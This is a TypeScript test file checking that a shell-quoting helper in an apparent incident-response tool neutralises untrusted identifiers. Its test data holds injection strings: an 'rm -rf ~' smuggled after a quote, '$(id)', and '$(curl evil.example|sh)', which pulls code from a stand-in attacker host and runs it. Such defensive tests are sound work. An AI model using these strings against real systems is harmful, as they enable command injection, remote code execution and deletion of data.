import { expect, test } from 'vitest'
import { closeBlockers } from '../../src/incident/close-blockers.ts'
import { shellWord } from '../../src/incident/shell-word.ts'
import { incidentWith } from './sample-incident.ts'

test.for([
  ['access-key:AKIA1', 'access-key:AKIA1'],
  ["user:a'; rm -rf ~", `'user:a'\\''; rm -rf ~'`],
  ['role:$(id)', `'role:$(id)'`],
  ['', `''`],
])('%s', ([text, expected]) => expect(shellWord(text!)).toBe(expected))

test('what a provider told is no command where one is shown to be typed', () => {
  const minted = [{ kind: 'user', id: '$(curl evil.example|sh)' }]
  const commands = closeBlockers(incidentWith({ minted }), 'closed').map(({ command }) => command)
  expect(commands.join('\n')).toContain(` 'user:$(curl evil.example|sh)' --as`)
})
